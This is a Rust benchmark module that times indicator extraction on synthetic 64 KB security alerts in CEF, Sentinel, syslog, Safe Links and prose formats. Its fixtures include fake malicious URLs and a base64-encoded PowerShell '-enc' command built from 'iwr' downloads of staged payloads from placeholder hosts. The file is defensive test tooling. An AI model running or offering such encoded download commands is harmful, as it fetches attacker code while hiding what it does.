//! Extraction of large alerts, in process: for each wrapped-format class a 64 KB alert shaped the
//! way forwarders deliver it (a CEF record, a SecurityAlert's `Entities` string, an encoded
//! PowerShell command, syslog `key=value` lines, URL-defence-wrapped links, plain prose), run
//! through all four passes with every decoder on, timed one extraction at a time.

use std::time::{Duration, Instant};

use base64::Engine as _;
use calseta_core::extraction;
use calseta_core::sources;
use serde_json::{Value, json};

use crate::stats::Latency;

/// The size each alert is built to.
const ALERT_BYTES: usize = 64 * 1024;

/// `piece(i)` repeated until the text reaches `bytes`.
fn grow(bytes: usize, piece: impl Fn(usize) -> String) -> String {
    let mut out = String::with_capacity(bytes + 256);
    let mut i = 0;
    while out.len() < bytes {
        out.push_str(&piece(i));
        i += 1;
    }
    out
}

fn ip(i: usize) -> String {
    format!("198.51.{}.{}", (i / 250) % 250, i % 250 + 1)
}

/// `(class, source, payload)` for each class.
fn alerts() -> Vec<(&'static str, &'static str, Value)> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let cef = format!(
        "<134>Dec  1 10:00:00 fw01 CEF:0|Palo Alto Networks|PAN-OS|10.2|threat|url blocked|8|src=10.1.1.23 dst=185.220.101.4 suser=CORP\\\\jdoe {}",
        grow(ALERT_BYTES, |i| format!(
            "cs{}Label=Destination URL cs{}=https://evil-{i}.top/p?id={i} msg=blocked session {i} from {} ",
            i % 6 + 1,
            i % 6 + 1,
            ip(i)
        ))
    );
    let entities: Vec<Value> = (0..)
        .map(|i| json!({"$id": i.to_string(), "Type": "ip", "Address": ip(i), "Location": {"City": "Frankfurt am Main", "Asn": 24940}}))
        .take(ALERT_BYTES / 95)
        .collect();
    let script =
        grow(ALERT_BYTES * 3 / 8, |i| format!("iwr http://{}:8080/stage{i} -OutFile s{i}.bin; ", ip(i)));
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let syslog = grow(ALERT_BYTES, |i| {
        format!(
            "<86>Dec  1 10:00:{:02} gw kernel: IN=eth0 OUT= SRC={} DST=192.0.2.10 LEN=60 PROTO=TCP SPT=4444 DPT=22 user=svc{i}\n",
            i % 60,
            ip(i)
        )
    });
    let links = grow(ALERT_BYTES, |i| {
        format!(
            "see https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fpayroll-{i}.top%2Flogin&data=05%7C02&sdata=x&reserved=0 "
        )
    });
    let prose = grow(ALERT_BYTES, |i| {
        format!(
            "Host WS-{i:03} ran powershell.exe version 10.0.19041.{i} and connected to {} on port 443 after reading invoice.pdf. ",
            ip(i)
        )
    });
    vec![
        ("cef", "generic", json!({"title": "CEF", "raw": cef})),
        (
            "json_in_string",
            "sentinel",
            json!({"AlertName": "Entities", "AlertSeverity": "High", "SystemAlertId": "x",
                   "Entities": serde_json::to_string(&entities).unwrap_or_default()}),
        ),
        (
            "encoded_command",
            "generic",
            json!({"title": "Encoded", "command_line": format!("powershell.exe -NoP -enc {}", b64.encode(utf16))}),
        ),
        ("syslog_kv", "generic", json!({"title": "Syslog", "log": syslog})),
        ("url_defence", "generic", json!({"title": "Links", "description": links})),
        ("plain", "generic", json!({"title": "Prose", "description": prose})),
    ]
}

/// Times `runs` extractions of each class's 64 KB alert: p50/p90/p99/max in milliseconds, and
/// how many indicators one extraction found.
pub(crate) fn measure(runs: usize) -> Value {
    let mut out = serde_json::Map::new();
    for (class, source_name, payload) in alerts() {
        let Some(source) = sources::find(source_name) else { continue };
        let alert = source.normalize(&payload, chrono::Utc::now());
        let bytes = serde_json::to_string(&payload).map(|s| s.len()).unwrap_or_default();
        let mut samples: Vec<Duration> = Vec::with_capacity(runs);
        let mut found = 0;
        for _ in 0..runs {
            let started = Instant::now();
            let extraction = extraction::extract(source, &payload, &alert, &[], true);
            samples.push(started.elapsed());
            found = extraction.indicators.len();
        }
        let mut figures = Latency::new(samples).to_json();
        figures["bytes"] = json!(bytes);
        figures["indicators"] = json!(found);
        out.insert(class.to_string(), figures);
    }
    Value::Object(out)
}

/// One line per class: the extraction's p50 and p99, the alert's size and what it yielded.
pub(crate) fn print(figures: &Value) {
    println!();
    println!("| extraction of a 64 KB alert | p50 | p99 | max | bytes | indicators |");
    println!("|---|---|---|---|---|---|");
    if let Some(classes) = figures.as_object() {
        for (class, f) in classes {
            println!(
                "| {class} | {} ms | {} ms | {} ms | {} | {} |",
                f["p50"], f["p99"], f["max"], f["bytes"], f["indicators"]
            );
        }
    }
}
